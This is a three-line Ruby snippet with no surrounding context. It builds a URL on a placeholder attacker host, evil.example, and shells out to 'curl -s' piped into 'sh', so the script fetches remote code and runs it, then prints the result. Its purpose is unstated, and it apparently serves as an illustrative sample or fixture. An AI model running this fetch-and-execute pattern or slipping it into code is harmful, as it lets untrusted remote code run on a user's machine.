url = "https://evil.example/" + "i"
out = `curl -s #{url} | sh`
puts out
